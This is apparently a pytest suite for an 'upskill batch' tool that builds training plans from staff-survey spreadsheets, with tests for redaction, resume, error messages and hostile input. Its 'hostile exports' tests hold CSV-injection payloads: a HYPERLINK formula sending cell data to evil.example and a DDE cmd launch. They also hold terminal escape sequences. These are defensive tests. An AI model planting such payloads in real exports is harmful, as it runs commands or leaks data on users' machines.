"""`upskill batch` as people ops run it: a spreadsheet export to a folder of plans, summary and overview."""

import csv
import json
import re
from pathlib import Path

from typer.testing import CliRunner

from planner.cli.app import app

runner = CliRunner()
XLSX = "tests/fixtures/survey/ten_rows.xlsx"


def test_ten_row_spreadsheet_to_plans_summary_and_overview(tmp_path):
    out = tmp_path / "plans"
    r = runner.invoke(app, ["batch", XLSX, "--out", str(out), "--today", "2026-01-05"])
    assert r.exit_code == 0, r.output
    assert "column mapping:" in r.output and "team: Team" in r.output
    assert "1 remark(s) about protected characteristics dropped" in r.output
    names = {p.name for p in out.iterdir()}
    assert {"summary.csv", "index.html", "run.sqlite", "billing--support-agent.md", "sales--account-executive.json"} <= names
    rows = list(csv.DictReader((out / "summary.csv").open(encoding="utf-8")))
    assert [r["group"] for r in rows] == ["Billing / Support Agent", "Sales / Account Executive"]
    assert all(r["status"] == "done" and float(r["concreteness"]) > 0.5 and r["top_gaps"] for r in rows)
    for f in out.iterdir():
        blob = f.read_bytes().decode("utf-8", errors="replace")
        assert not re.search(r"@example\.com|7946|123-4567|Schmidt|pregnan", blob), f.name
    # the same folder again: refused with the resume command; --resume redoes nothing
    r = runner.invoke(app, ["batch", XLSX, "--out", str(out)])
    assert r.exit_code == 2 and f"--resume {out}" in r.output
    r = runner.invoke(app, ["batch", "--resume", str(out)])
    assert r.exit_code == 0 and "2 done, 0 to do" in r.output
    st = runner.invoke(app, ["batch", "status", str(out)])
    assert st.exit_code == 0 and json.loads(st.stdout)["groups"] == {"done": 2}


def test_failed_groups_exit_1_and_say_why(tmp_path, monkeypatch):
    monkeypatch.setenv("UPSKILL_RETRY_ATTEMPTS", "1")
    out = tmp_path / "plans"
    r = runner.invoke(app, ["batch", XLSX, "--out", str(out), "--provider", "openai", "--base-url", "http://127.0.0.1:9/v1"])
    assert r.exit_code == 1
    assert "failed: Billing / Support Agent" in r.output and "--resume" in r.output
    rows = list(csv.DictReader((out / "summary.csv").open(encoding="utf-8")))
    assert all(r["status"] == "failed" and r["error"] for r in rows)


def test_mapping_save_reuse_and_loud_no_redact(tmp_path):
    m = tmp_path / "mapping.json"
    r = runner.invoke(app, ["batch", "tests/fixtures/survey/clean.csv", "--out", str(tmp_path / "a"), "--save-mapping", str(m)])
    assert r.exit_code == 0 and m.is_file()
    saved = json.loads(m.read_text(encoding="utf-8"))
    assert saved["team"] == "Team" and saved["ratings"]["Rate: CRM automation (1-5)"] == "CRM automation"
    # edit the saved mapping: the CRM rating now means another skill, and the role column is not used
    saved["ratings"]["Rate: CRM automation (1-5)"] = "Ticket macros"
    saved["targets"] = {"Ticket macros": saved["targets"].pop("CRM automation")}
    saved["role"] = None
    m.write_text(json.dumps(saved), encoding="utf-8")
    out = tmp_path / "b"
    r = runner.invoke(app, ["batch", "tests/fixtures/survey/semicolon_cp1252.csv", "--out", str(out), "--mapping", str(m), "--no-redact"])
    assert r.exit_code == 0 and "WARNING: --no-redact" in r.output
    assert "rating: 'Rate: CRM automation (1-5)' -> Ticket macros" in r.output and "role: -" in r.output
    rows = list(csv.DictReader((out / "summary.csv").open(encoding="utf-8")))
    assert [row["group"] for row in rows] == ["Billing", "Sales"]  # grouped by team alone, as the mapping says
    assert all("Ticket macros" in row["top_gaps"] and "CRM automation" not in row["top_gaps"] for row in rows)
    # and through to the plan: the renamed skill is the billing group's goal and its success signal's baseline
    billing = json.loads((out / f"{rows[0]['key']}.json").read_text(encoding="utf-8"))
    assert "ticket macros" in billing["skill_goal"] and "CRM automation" not in json.dumps(billing)
    assert billing["success_signal"]["metric"].startswith("mean self-rating on Ticket macros")


def test_bad_input_is_clear(tmp_path):
    cases = [
        (["batch", str(tmp_path / "none.csv")], "file not found"),
        (["batch", "tests/fixtures/survey/clean.csv", "--team-col", "Dept"], "is not a column"),
        (["batch", "status"], "needs the run folder"),
        (["batch", "status", str(tmp_path)], "no run found"),
        (["batch", "--resume", str(tmp_path)], "no run found"),
        (["batch", "tests/fixtures/survey/clean.csv", "--via", "carrier-pigeon"], "not one of direct, batch-api"),
        (["batch", "tests/fixtures/survey/clean.csv", "--out", str(tmp_path / "c"), "--via", "batch-api"], "openai or anthropic"),
        (["batch"], "give the survey export"),
    ]
    for args, msg in cases:
        r = runner.invoke(app, args)
        assert r.exit_code == 2, (args, r.output)
        assert msg in r.output and "Traceback" not in r.output, (args, r.output)


def test_broken_rows_are_reported(tmp_path):
    r = runner.invoke(app, ["batch", "tests/fixtures/survey/broken.csv", "--out", str(tmp_path / "o")])
    assert r.exit_code == 0
    assert re.search(r"line 4: skipped \(4 values", r.output) and "not a number" in r.output


def _write_survey(path, teams, roles, per_group):
    """A synthetic export: ``teams`` x ``roles`` groups of ``per_group`` invented people."""
    skills = ["CRM automation", "Escalation writing"]
    remarks = ["The CRM macros are confusing", "Escalation notes take too long", "Handover notes are missing facts"]
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["Respondent ID", "Team", "Role", *[f"Rate: {s} (1-5)" for s in skills], "What slows you down?"])
        n = 0
        for t in range(teams):
            for r in range(roles):
                for _ in range(per_group):
                    n += 1
                    w.writerow([f"R{n:05d}", f"Team {t:03d}", f"Role {r}", 1 + n % 5, 1 + (n * 3) % 5, remarks[n % 3]])


def test_ctrl_c_stops_cleanly_and_resume_finishes(tmp_path):
    """A real SIGINT to a running `upskill batch` against a loopback stub; then --resume completes the run."""
    import os
    import signal
    import socket
    import subprocess
    import sys
    import time

    from tests.openai_stub import serve

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    srv = serve(port, latency=0.3, error_rate=0.0, seconds=120)
    try:
        src = tmp_path / "s.csv"
        _write_survey(src, teams=8, roles=5, per_group=3)
        out = tmp_path / "out"
        env = {k: v for k, v in os.environ.items() if k != "OPENAI_API_KEY"}
        upskill = os.path.join(os.path.dirname(sys.executable), "upskill")
        p = subprocess.Popen([upskill, "batch", str(src), "--out", str(out), "--provider", "openai", "--base-url",
                              f"http://127.0.0.1:{port}/v1", "--model", "stub", "--concurrency", "2", "--today", "2026-11-22"],
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env,
                             preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
        for _ in range(200):  # wait until some groups are done
            time.sleep(0.1)
            if (out / "run.sqlite").exists():
                break
        time.sleep(2.5)
        p.send_signal(signal.SIGINT)
        output, _ = p.communicate(timeout=60)
        assert p.returncode == 130, output
        assert f"Resume with: upskill batch --resume {out}" in output and "Traceback" not in output
        r = subprocess.run([upskill, "batch", "--resume", str(out), "--concurrency", "4"], capture_output=True, text=True, env=env, timeout=120)
        assert r.returncode == 0, r.stderr
        assert len(list(out.glob("*.md"))) == 40
    finally:
        srv.shutdown()


# --------------------------------------------------------------------------------------------- the documented forms
def test_default_out_folder_is_upskill_batch_and_the_date(tmp_path, monkeypatch):
    """`upskill batch FILE` with no --out writes to ./upskill-batch-<date> (it used to crash with a NameError)."""
    src = Path(XLSX).resolve()
    monkeypatch.chdir(tmp_path)
    r = runner.invoke(app, ["batch", str(src), "--today", "2026-01-05"])
    assert r.exit_code == 0, r.output
    out = tmp_path / "upskill-batch-2026-01-05"
    assert "2 of 2 plans written to upskill-batch-2026-01-05" in r.output
    assert {"summary.csv", "index.html", "run.sqlite", "billing--support-agent.md"} <= {p.name for p in out.iterdir()}
    # and again: the same default folder is refused with the resume command, not overwritten
    r = runner.invoke(app, ["batch", str(src), "--today", "2026-01-05"])
    assert r.exit_code == 2 and "--resume upskill-batch-2026-01-05" in r.output


def test_batch_run_subcommand_is_the_same_as_batch_file(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    ra = runner.invoke(app, ["batch", XLSX, "--out", str(a), "--today", "2026-01-05"])
    rb = runner.invoke(app, ["batch", "run", XLSX, "--out", str(b), "--today", "2026-01-05"])
    assert ra.exit_code == rb.exit_code == 0, (ra.output, rb.output)
    names = [sorted(p.name for p in d.iterdir() if not p.name.startswith("run.sqlite-")) for d in (a, b)]  # WAL files come and go
    assert names[0] == names[1] and "run.sqlite" in names[0]
    plans = [json.loads((d / "billing--support-agent.json").read_text()) for d in (a, b)]
    for p in plans:
        p.pop("meta")  # its created_at differs
    assert plans[0] == plans[1]
    # --resume works both ways as documented, and status reads the run
    for args in (["batch", "--resume", str(a)], ["batch", "run", "--resume", str(b)]):
        r = runner.invoke(app, args)
        assert r.exit_code == 0 and "2 done, 0 to do" in r.output, r.output
    h = runner.invoke(app, ["batch", "--help"])
    assert h.exit_code == 0 and all(c in h.output for c in ("run", "status", "collect", "--resume plans/"))


# --------------------------------------------------------------------------------------------- hostile exports
def _csv(path, header, rows):
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(header)
        w.writerows(rows)
    return path


HEADER = ["Team", "Role", "Rate: CRM automation (1-5)", "What slows you down?"]


def _people(team, role, n=3, rating=2):
    return [[team, role, rating, "The CRM macros are confusing and the invoice fields are missing"] for _ in range(n)]


def test_colliding_team_names_give_one_plan_each(tmp_path):
    """'Ops/Agent', 'ops/agent' and 'Ops/Agent 2' all slug to ops-agent...: every group keeps its own files."""
    src = _csv(tmp_path / "s.csv", HEADER, _people("Ops/Agent", "Agent") + _people("ops/agent", "Agent")
               + _people("Ops/Agent 2", "Agent"))
    out = tmp_path / "o"
    r = runner.invoke(app, ["batch", str(src), "--out", str(out), "--group-by", "Team"])
    assert r.exit_code == 0, r.output
    assert "3 groups" in r.output and "3 of 3 plans written" in r.output
    rows = list(csv.DictReader((out / "summary.csv").open(encoding="utf-8")))
    assert sorted(row["group"] for row in rows) == ["Ops/Agent", "Ops/Agent 2", "ops/agent"]
    keys = [row["key"] for row in rows]
    assert len(set(keys)) == 3 and all((out / f"{k}.md").is_file() and (out / f"{k}.json").is_file() for k in keys)
    # team x role: "Ops"/"Agent", "ops"/"agent" and "Ops"/"Agent 2" (ops--agent, ops--agent, ops--agent-2)
    src = _csv(tmp_path / "t.csv", HEADER, _people("Ops", "Agent") + _people("ops", "agent") + _people("Ops", "Agent 2"))
    r = runner.invoke(app, ["batch", str(src), "--out", str(tmp_path / "p")])
    assert r.exit_code == 0 and "3 of 3 plans written" in r.output, r.output
    assert len(list((tmp_path / "p").glob("*.md"))) == 3


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(9+9)", "-2+3"]


def test_formula_cells_are_neutralised_in_summary_csv(tmp_path):
    """OWASP CSV injection: team names and rating headers that a spreadsheet would run as formulas."""
    header = ["Team", "Role", "Rate: =HYPERLINK(\"http://evil.example\") (1-5)", "What slows you down?"]
    rows = [r for i, t in enumerate(FORMULAS) for r in _people(t, "Agent", rating=1 + i % 3)]
    src = _csv(tmp_path / "s.csv", header, rows)
    out = tmp_path / "o"
    r = runner.invoke(app, ["batch", str(src), "--out", str(out), "--group-by", "Team"])
    assert r.exit_code == 0, r.output
    with (out / "summary.csv").open(encoding="utf-8", newline="") as f:
        cells = list(csv.reader(f))
    assert len(cells) == 1 + len(FORMULAS)
    for row in cells:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    groups = sorted(row[0] for row in cells[1:])
    assert groups == sorted("'" + t for t in FORMULAS)  # the text is kept, behind the apostrophe
    assert all(row[3].startswith("'=HYPERLINK") for row in cells[1:])  # top_gaps: the rating header's skill


def test_group_by_a_personal_column_is_refused(tmp_path):
    header = ["Team", "Role", "Line manager", "Rate: CRM automation (1-5)", "What slows you down?"]
    rows = [["Billing", "Agent", "Marta Kowalski", 2, "The CRM macros are confusing"] for _ in range(4)]
    src = _csv(tmp_path / "s.csv", header, rows)
    out = tmp_path / "o"
    r = runner.invoke(app, ["batch", str(src), "--out", str(out), "--group-by", "Line manager"])
    assert r.exit_code == 2, r.output
    assert "--group-by 'Line manager' is a personal column" in r.output and "Traceback" not in r.output
    assert "Kowalski" not in r.output and not out.exists()
    r = runner.invoke(app, ["batch", str(src), "--out", str(out), "--group-by", "line manager"])  # any case
    assert r.exit_code == 2 and "personal column" in r.output


def test_escapes_never_reach_the_terminal_and_controls_never_reach_files(tmp_path):
    """ANSI/OSC escapes (title, clear screen, OSC 8 hyperlink, 8-bit CSI) and NUL in team names, from a JSONL export."""
    evil = "\x1b]0;owned\x07\x1b[2J\x1b]8;;http://evil.example\x1b\\Ops\x1b]8;;\x1b\\\x9b31m"
    nul = "Sup\x00port\x07\x1b[31m"
    src = tmp_path / "s.jsonl"
    # small groups of the evil team are merged, and the merge notice names the team on the terminal
    rows = _people(evil, "Agent") + _people(evil, "Lead", n=1) + _people(evil, "Clerk", n=2) + _people(nul, "Agent")
    src.write_text("".join(json.dumps(dict(zip(HEADER, r))) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "o"
    r = runner.invoke(app, ["batch", str(src), "--out", str(out)])
    assert r.exit_code == 0, r.output
    assert "merged 2 group(s) under --min-group 3 of 'Ops" in r.output
    assert "\x1b" not in r.output and "\x07" not in r.output and "\x9b" not in r.output and "\x00" not in r.output
    for f in out.iterdir():
        if f.name.startswith("run.sqlite"):
            continue
        text = f.read_text(encoding="utf-8")
        bad = [c for c in text if (ord(c) < 32 and c not in "\n\r\t") or 0x7F <= ord(c) < 0xA0]
        assert not bad, (f.name, bad[:5])
    html = (out / "index.html").read_text(encoding="utf-8")
    assert "Support" in html and "Ops" in html


# --------------------------------------------------------------------------------------------- refused up front
def test_bad_store_out_and_date_are_refused_with_one_line(tmp_path):
    good = tmp_path / "good"
    assert runner.invoke(app, ["batch", XLSX, "--out", str(good), "--today", "2026-01-05"]).exit_code == 0
    db = (good / "run.sqlite").read_bytes()
    stores = {"empty": b"", "half": db[: len(db) // 2], "garbage": b"\x89PNG\r\n" + bytes(range(256)) * 40,
              "header-only": db[:100]}
    for name, blob in stores.items():
        d = tmp_path / name
        d.mkdir()
        (d / "run.sqlite").write_bytes(blob)
        for args in (["batch", "--resume", str(d)], ["batch", "status", str(d)], ["batch", "collect", str(d)],
                     ["batch", XLSX, "--out", str(d)]):
            r = runner.invoke(app, args)
            assert r.exit_code == 2, (name, args, r.output)
            lines = [ln for ln in r.output.splitlines() if ln.strip()]
            assert len(lines) == 1 and lines[0].startswith("error: ") and "run.sqlite" in lines[0], (name, args, r.output)
            assert "internal error" not in r.output and "retry" not in r.output
    a_file = tmp_path / "plans.txt"
    a_file.write_text("not a folder")
    for out, msg in ((str(a_file), "is a file, not a folder"), ("/dev/null", "is a device or other special file, not a folder"),
                     (str(a_file / "sub"), "is a file, not a folder")):
        r = runner.invoke(app, ["batch", XLSX, "--out", out])
        assert r.exit_code == 2 and msg in r.output and "internal error" not in r.output, (out, r.output)
    r = runner.invoke(app, ["batch", XLSX, "--out", str(tmp_path / "late"), "--today", "9999-12-31"])
    assert r.exit_code == 2 and "--today 9999-12-31 is too late" in r.output, r.output
    assert "column mapping" not in r.output and not (tmp_path / "late").exists()  # refused before the survey is read
    assert a_file.read_text() == "not a folder"


def test_provider_credentials_never_printed_or_saved(tmp_path, monkeypatch):
    import os
    import stat

    monkeypatch.setenv("UPSKILL_RETRY_ATTEMPTS", "1")
    state = tmp_path / "state"
    monkeypatch.setenv("UPSKILL_STATE_DIR", str(state))
    out = tmp_path / "plans"
    r = runner.invoke(app, ["batch", XLSX, "--out", str(out), "--provider", "openai", "--model", "m",
                            "--base-url", "http://alice:s3cr3t-pw@127.0.0.1:9/v1"])
    assert r.exit_code == 1, r.output
    assert "s3cr3t" not in r.output and "alice" not in r.output and "http://***@127.0.0.1:9/v1" in r.output
    failed = list((state / "failed").glob("*.json"))
    assert failed
    for f in failed:
        assert "s3cr3t" not in f.read_text(encoding="utf-8")
        assert stat.S_IMODE(os.stat(f).st_mode) == 0o600
    summary = (out / "summary.csv").read_text(encoding="utf-8") + (out / "index.html").read_text(encoding="utf-8")
    assert "s3cr3t" not in summary
